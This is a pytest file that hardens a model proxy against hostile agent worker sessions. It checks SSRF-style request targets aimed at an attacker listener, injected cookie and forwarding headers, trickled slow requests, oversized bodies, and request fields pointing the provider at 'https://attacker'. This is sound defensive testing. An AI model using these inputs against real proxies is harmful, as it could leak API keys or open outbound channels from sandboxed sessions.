"""The model proxy against a session that attacks it (issue 35, item 1): real HTTP servers on
127.0.0.1 (the proxy, the scripted model, and an attacker's listener), requests sent raw as a
worker's own commands can send them. With a valid capability, nothing but the runtime's own
model calls reaches the model, nothing at all reaches another host, the body's length is
checked before it is read, the connections are bounded, and an answer whose usage cannot be
read is recorded as unread."""

from __future__ import annotations

import json
import logging
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from legion.backends import open_backends
from legion.config import load_project
from legion.core.model import Mode
from legion.daemon.servers import registered_worker
from legion.plugins import CLAUDE_CODE, CODEX
from legion.proxy import server as proxy_server
from legion.proxy.ledger import UsageLedger
from legion.proxy.server import ModelProxy
from legion.proxy.upstreams import Upstream, upstreams_from
from legion.relay.capabilities import Capabilities
from legion.sessions.registry import Registry
from legion.store.sqlite import SqliteStore
from tests.fakes.model_server import FakeModelServer, Scenario, text
from tests.support.cli import run_legion
from tests.support.waits import wait_until

REQUEST = {"model": "m", "max_tokens": 10, "stream": True, "messages": [{"role": "user"}]}


@pytest.fixture
def db_path(project: Path) -> Path:
    return open_backends(load_project(project)).db.path


@pytest.fixture
def model() -> Iterator[FakeModelServer]:
    with FakeModelServer([Scenario("hello", [[text("hi")]])]) as server:
        yield server


class Listener:
    """An attacker's server on 127.0.0.1: it records every connection it is offered."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.1)
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.socket.close()


@pytest.fixture
def attacker() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def start(
    db_path: Path, model: FakeModelServer, codex: Upstream | None = None, **options: Any
) -> ModelProxy:
    """The proxy serving Claude Code's sessions on `model`, and Codex's on `codex` if given."""
    env = {"ANTHROPIC_BASE_URL": model.base_url, "ANTHROPIC_API_KEY": "the-real-key"}
    upstreams = upstreams_from(env) | ({CODEX: codex} if codex is not None else {})
    proxy = ModelProxy(upstreams, lambda: SqliteStore(db_path, create=False), **options)
    proxy.start()
    return proxy


def capability(db_path: Path) -> str:
    return Capabilities(SqliteStore(db_path)).mint("LEG-1", mode="implement", session_id="s-1")


def raw(proxy: ModelProxy, head: str, body: bytes = b"") -> tuple[int, bytes]:
    """A request sent as written (no client tidies it up); the status and what came back."""
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as connection:
        connection.sendall(head.encode("latin-1") + b"\r\n\r\n" + body)
        answer = b""
        while b"\r\n\r\n" not in answer or not _whole(answer):
            chunk = connection.recv(65536)
            if not chunk:
                break
            answer += chunk
    status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0
    return status, answer


def _whole(answer: bytes) -> bool:
    head, _, body = answer.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return len(body) >= int(value)
    return body.endswith(b"0\r\n\r\n")


def post(target: str, token: str, body: bytes, *extra: str) -> str:
    lines = [
        f"POST {target} HTTP/1.1",
        "host: 127.0.0.1",
        f"x-api-key: {token}",
        "content-type: application/json",
        f"content-length: {len(body)}",
        "connection: close",
        *extra,
    ]
    return "\r\n".join(lines)


def test_a_target_naming_another_host_sends_nothing_anywhere(
    db_path: Path, model: FakeModelServer, attacker: Listener
) -> None:
    """`POST @attacker:port/x` once joined the base URL into `https://api…@attacker:port/x`,
    sent with the daemon's key."""
    token, body = capability(db_path), json.dumps(REQUEST).encode()
    proxy = start(db_path, model)
    try:
        for target in (
            f"@127.0.0.1:{attacker.port}/x",
            f"@127.0.0.1:{attacker.port}/v1/messages",
            f"http://127.0.0.1:{attacker.port}/v1/messages",
            f"//127.0.0.1:{attacker.port}/v1/messages",
            f"/v1/messages/../../@127.0.0.1:{attacker.port}/",
        ):
            status, answer = raw(proxy, post(target, token, body), body)
            assert status in (400, 404), (target, answer)
            assert b"the-real-key" not in answer
        time.sleep(0.3)
        assert attacker.received == []
        assert model.requests == []
        # The session's own model call still goes through.
        status, answer = raw(proxy, post("/v1/messages?beta=true", token, body), body)
        assert status == 200 and b"message_start" in answer
    finally:
        proxy.stop()


def test_only_the_runtimes_model_calls_are_forwarded(db_path: Path, model: FakeModelServer) -> None:
    token, body = capability(db_path), json.dumps(REQUEST).encode()
    codex = Upstream(model.base_url + "/v1", {"authorization": "Bearer codex-key"})
    proxy = start(db_path, model, codex=codex)
    try:
        for target in (
            "/v1/messages/batches",
            "/v1/files",
            "/v1/chat/completions",
            "/v1/models",
            "/codex/chat/completions",
            "/codex/v1/responses",
            "/codex/files",
        ):
            status, _ = raw(proxy, post(target, token, body), body)
            assert status == 404, target
        for method in ("GET", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH"):
            head = post("/v1/messages", token, body).replace("POST", method, 1)
            status, _ = raw(proxy, head, body)
            assert status == 405, method
        assert model.requests == []
        # Codex's own call reaches its provider's base path (the scripted server has none: 404
        # there, recorded as not served: it went to the right place).
        status, _ = raw(proxy, post("/codex/responses", token, body), body)
        assert [r.path for r in model.requests] == ["/v1/responses"]
    finally:
        proxy.stop()


def test_a_session_uses_only_its_own_runtimes_model_api(
    db_path: Path, model: FakeModelServer
) -> None:
    """A capability is its session's, and the session runs one CLI (the worker registry says
    which; the controller's is the daemon's choice): a Claude Code session's capability on
    Codex's route (another provider, another key), or a Codex session's on Claude Code's, is
    refused (403) before anything is sent."""
    store = SqliteStore(db_path)
    registry = Registry(store)
    registry.start("LEG-1", Mode.IMPLEMENT, "s-1", "leg-1-implement", Path("/w1"), CLAUDE_CODE)
    registry.start("LEG-2", Mode.IMPLEMENT, "s-2", "leg-2-implement", Path("/w2"), CODEX)
    claude = capability(db_path)
    codex = Capabilities(store).mint("LEG-2", mode="implement", session_id="s-2")
    controller = Capabilities(store).mint(None, mode="controller", session_id="c-1")
    body = json.dumps(REQUEST).encode()
    proxy = start(
        db_path,
        model,
        codex=Upstream(model.base_url + "/v1", {"authorization": "Bearer codex-key"}),
        workers=registered_worker,
        controller_runtime=CLAUDE_CODE,
    )
    try:
        for token, target in (
            (claude, "/codex/responses"),
            (controller, "/codex/responses"),
            (codex, "/v1/messages"),
        ):
            status, answer = raw(proxy, post(target, token, body), body)
            assert status == 403 and b"permission_error" in answer, (target, answer)
        assert model.requests == []
        # Each on its own runtime's route goes on.
        assert raw(proxy, post("/v1/messages", claude, body), body)[0] == 200
        raw(proxy, post("/codex/responses", codex, body), body)
        assert [r.path for r in model.requests] == ["/v1/messages", "/v1/responses"]
    finally:
        proxy.stop()


def test_a_bodys_length_is_checked_before_it_is_read_and_the_proxy_goes_on(
    db_path: Path, model: FakeModelServer
) -> None:
    token, body = capability(db_path), json.dumps(REQUEST).encode()
    proxy = start(db_path, model)
    try:
        for length, status in (("-1", 400), ("99999999999999999999", 413), ("12abc", 400)):
            head = post("/v1/messages", token, b"").replace(
                "content-length: 0", f"content-length: {length}"
            )
            assert raw(proxy, head, body)[0] == status, length
        chunked = post("/v1/messages", token, b"").replace(
            "content-length: 0", "transfer-encoding: chunked"
        )
        assert raw(proxy, chunked, b"5\r\nhello\r\n0\r\n\r\n")[0] == 411
        assert model.requests == []
        assert raw(proxy, post("/v1/messages", token, body), body)[0] == 200
    finally:
        proxy.stop()


def test_only_the_apis_headers_reach_the_model(db_path: Path, model: FakeModelServer) -> None:
    token, body = capability(db_path), json.dumps(REQUEST).encode()
    proxy = start(db_path, model)
    try:
        head = post(
            "/v1/messages",
            token,
            body,
            "anthropic-version: 2023-06-01",
            "x-stainless-lang: js",
            "cookie: session=stolen",
            "x-forwarded-host: attacker.example",
            "anthropic-organization: another-org",
            "x-evil: 1",
        )
        assert raw(proxy, head, body)[0] == 200
        [seen] = model.requests
        assert seen.headers["anthropic-version"] == "2023-06-01"
        assert seen.headers["x-stainless-lang"] == "js"
        for dropped in ("cookie", "x-forwarded-host", "anthropic-organization", "x-evil"):
            assert dropped not in seen.headers, dropped
    finally:
        proxy.stop()


def test_connections_are_bounded_and_an_idle_one_is_closed(
    db_path: Path, model: FakeModelServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(proxy_server._Handler, "timeout", 1.0)
    token, body = capability(db_path), json.dumps(REQUEST).encode()
    proxy = start(db_path, model, max_connections=2)
    try:
        idle = [socket.create_connection(("127.0.0.1", proxy.port)) for _ in range(2)]
        idle[0].sendall(b"POST /v1/messages HTTP/1.1\r\nhost: x\r\n")  # and no more
        wait_until("both connections served", lambda: proxy.slots._value == 0, timeout=20)  # type: ignore[attr-defined]
        status, answer = raw(proxy, post("/v1/messages", token, body), body)
        assert status == 503 and b"overloaded_error" in answer
        # A connection that sends nothing more is closed, and its place given to another.
        for connection in idle:
            connection.settimeout(5)
            assert connection.recv(65536) == b""
            connection.close()
        wait_until("their places free", lambda: proxy.slots._value == 2, timeout=20)  # type: ignore[attr-defined]
        assert raw(proxy, post("/v1/messages", token, body), body)[0] == 200
    finally:
        proxy.stop()


class Trickler:
    """A sender that sends `prefix` at once, then `rest` a byte at a time, each byte well
    within the idle timeout, until it is all sent or the proxy closes the connection."""

    def __init__(self, port: int, prefix: bytes, rest: bytes) -> None:
        self.connection = socket.create_connection(("127.0.0.1", port), timeout=8)
        self.connection.sendall(prefix)
        self._rest = rest
        self._thread = threading.Thread(target=self._trickle, daemon=True)
        self._thread.start()

    def _trickle(self) -> None:
        for byte in self._rest:
            try:
                self.connection.send(bytes([byte]))
            except OSError:
                return  # cut
            time.sleep(0.05)

    def answer(self) -> bytes:
        """Everything the proxy sent until it closed the connection."""
        answer = b""
        while chunk := self.connection.recv(65536):
            answer += chunk
        return answer

    def close(self) -> None:
        self.connection.close()
        self._thread.join()


def test_a_sender_that_trickles_its_request_is_cut_at_its_deadline(
    db_path: Path, model: FakeModelServer
) -> None:
    """A byte within each idle timeout (120 s) kept a connection, and its thread, for ever: a
    request's head must come whole within its deadline of its first byte, and its body within
    its own; past either, 408 and the connection closed, its slot free for another."""
    token, body = capability(db_path), json.dumps(REQUEST).encode()
    proxy = start(
        db_path, model, max_connections=2, head_deadline=1.0, body_deadline=1.0, min_body_rate=1e9
    )
    head = (post("/v1/messages", token, body) + "\r\n\r\n").encode()
    try:
        for prefix, rest in ((b"", head), (head, body)):  # the head trickled, then the body
            slow = Trickler(proxy.port, prefix, rest)
            try:
                answer = slow.answer()  # no TimeoutError: the proxy closes it
            finally:
                slow.close()
            assert answer.startswith(b"HTTP/1.1 408 ") and b"not sent in time" in answer
            wait_until("its slot free", lambda: proxy.slots._value == 2, timeout=20)  # type: ignore[attr-defined]
        assert model.requests == []
        assert raw(proxy, post("/v1/messages", token, body), body)[0] == 200
    finally:
        proxy.stop()


class _NoUsage(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        answer = b'{"id": "msg_1", "type": "message", "content": []}'
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)


def test_an_answer_whose_usage_cannot_be_read_is_recorded_as_unread(
    project: Path, db_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    upstream = ThreadingHTTPServer(("127.0.0.1", 0), _NoUsage)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    env = {
        "ANTHROPIC_BASE_URL": f"http://127.0.0.1:{upstream.server_address[1]}",
        "ANTHROPIC_API_KEY": "k",
    }
    proxy = ModelProxy(upstreams_from(env), lambda: SqliteStore(db_path, create=False))
    proxy.start()
    token = capability(db_path)
    try:
        plain = dict(REQUEST, stream=False)
        sent = httpx.post(f"{proxy.url}/v1/messages", json=plain, headers={"x-api-key": token})
        assert sent.status_code == 200
        # count_tokens reports no usage by design: it costs none, and is not unread.
        counted = httpx.post(
            f"{proxy.url}/v1/messages/count_tokens", json=plain, headers={"x-api-key": token}
        )
        assert counted.status_code == 200
    finally:
        proxy.stop()
        upstream.shutdown()
    [row] = UsageLedger(SqliteStore(db_path)).rows()
    assert (row.issue, row.responses, row.unread, row.used.total) == ("LEG-1", 1, 1, 0)
    [said] = [r for r in caplog.records if "model usage unread" in r.getMessage()]
    assert said.getMessage().startswith("model usage unread: LEG-1's answer from /v1/messages")
    assert (said.levelname, getattr(said, "issue", None)) == ("WARNING", "LEG-1")
    shown = run_legion("usage", cwd=project)
    assert shown.returncode == 0, shown.stderr
    assert "1 of them reported no usage the proxy could read" in shown.stdout
    as_json = run_legion("usage", "--json", cwd=project)
    assert json.loads(as_json.stdout)[0]["unread_responses"] == 1


def test_a_failure_the_proxy_logs_quotes_neither_the_key_nor_a_capability(
    db_path: Path, model: FakeModelServer, caplog: pytest.LogCaptureFixture
) -> None:
    """The proxy sees the daemon's model key and each session's capability: what it logs when a
    request fails quotes neither, and neither does what the session is told, even when the
    failure's own text quotes the key (a key read with a stray line end, which the HTTP
    client refuses to send, quoting it)."""
    caplog.set_level(logging.DEBUG, logger="legion")
    key = "sk-the-real-key-0123456789"
    env = {"ANTHROPIC_BASE_URL": model.base_url, "ANTHROPIC_API_KEY": key + "\n"}
    proxy = ModelProxy(upstreams_from(env), lambda: SqliteStore(db_path, create=False))
    proxy.start()
    token, stranger = capability(db_path), "cap-nobody-knows-0123456789"
    try:
        url = f"{proxy.url}/v1/messages"
        broken = httpx.post(url, json=REQUEST, headers={"x-api-key": token})
        unknown = httpx.post(url, json=REQUEST, headers={"x-api-key": stranger})
    finally:
        proxy.stop()
    assert broken.status_code == 502 and key not in broken.text
    assert unknown.status_code == 401
    said = caplog.text
    assert "the model API cannot be reached: LocalProtocolError" in said
    assert "unknown or revoked capability" in said
    for secret in (key, token, stranger):
        assert secret not in said


def test_what_the_head_refuses_is_answered_before_any_body_is_read(
    db_path: Path, model: FakeModelServer
) -> None:
    """A request to a refused path, or with no valid capability, is answered at once: its
    (declared 32 MiB) body is never waited for, nor held in memory."""
    token = capability(db_path)
    proxy = start(db_path, model)
    try:
        declared = "content-length: 0"
        for head in (
            post("/v1/files", token, b"").replace(declared, "content-length: 33554432"),
            post("/v1/messages", "not-a-capability", b"").replace(
                declared, "content-length: 33554432"
            ),
        ):
            with socket.create_connection(("127.0.0.1", proxy.port), timeout=3) as connection:
                connection.sendall(head.encode() + b"\r\n\r\n" + b"x" * 1000)
                answer = connection.recv(65536)  # no TimeoutError: nothing waits for the body
            assert answer.split(b" ", 2)[1] in (b"404", b"401"), answer
        assert model.requests == []
    finally:
        proxy.stop()


def test_a_body_asking_the_provider_to_reach_a_server_is_refused(
    db_path: Path, model: FakeModelServer
) -> None:
    """The provider's MCP connector, a container, a background job: the provider would act for
    the session beyond answering it (an outbound channel from a session with no network)."""
    token = capability(db_path)
    codex = Upstream(model.base_url + "/v1", {"authorization": "Bearer codex-key"})
    proxy = start(db_path, model, codex=codex)
    try:
        for target, extra in (
            ("/v1/messages", {"mcp_servers": [{"type": "url", "url": "https://attacker"}]}),
            ("/v1/messages", {"container": "c-1"}),
            ("/codex/responses", {"background": True}),
            ("/codex/responses", {"tools": [{"type": "mcp", "server_url": "https://attacker"}]}),
        ):
            body = json.dumps(REQUEST | extra).encode()
            status, answer = raw(proxy, post(target, token, body), body)
            assert status == 400 and b"does not forward" in answer, (target, extra, answer)
        assert model.requests == []
    finally:
        proxy.stop()


class _Slow(BaseHTTPRequestHandler):
    """An upstream that answers once `release` is set (the test holds its requests open)."""

    protocol_version = "HTTP/1.1"
    release = threading.Event()

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        self.release.wait(timeout=30)
        answer = json.dumps({"model": "m", "usage": {"input_tokens": 5, "output_tokens": 1}})
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer.encode())


def test_a_sessions_requests_at_once_are_bounded(db_path: Path) -> None:
    """Usage is counted as each answer ends, so requests sent side by side could spend far past
    a budget before any is counted: one session's are bounded (one more: 429, retried by the
    CLI), and another session's are not held up by them."""
    upstream = ThreadingHTTPServer(("127.0.0.1", 0), _Slow)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    env = {
        "ANTHROPIC_BASE_URL": f"http://127.0.0.1:{upstream.server_address[1]}",
        "ANTHROPIC_API_KEY": "k",
    }
    proxy = ModelProxy(
        upstreams_from(env), lambda: SqliteStore(db_path, create=False), max_in_flight=2
    )
    proxy.start()
    mine = capability(db_path)
    theirs = Capabilities(SqliteStore(db_path)).mint("LEG-2", mode="plan", session_id="s-2")
    plain = dict(REQUEST, stream=False)
    _Slow.release.clear()
    try:

        def send(token: str) -> int:
            url = f"{proxy.url}/v1/messages"
            return httpx.post(url, json=plain, headers={"x-api-key": token}, timeout=20).status_code

        from concurrent.futures import ThreadPoolExecutor

        with ThreadPoolExecutor(max_workers=4) as pool:
            running = [pool.submit(send, mine) for _ in range(2)]
            wait_until("both running", lambda: proxy._in_flight.get("s-1") == 2, timeout=20)
            extra, other = pool.submit(send, mine), pool.submit(send, theirs)
            assert extra.result() == 429  # at once, while the two still run
            wait_until("theirs running", lambda: proxy._in_flight.get("s-2") == 1, timeout=20)
            _Slow.release.set()
            statuses = sorted(f.result() for f in running)
            assert (statuses, other.result()) == ([200, 200], 200)
        assert send(mine) == 200  # once they ended
    finally:
        proxy.stop()
        upstream.shutdown()
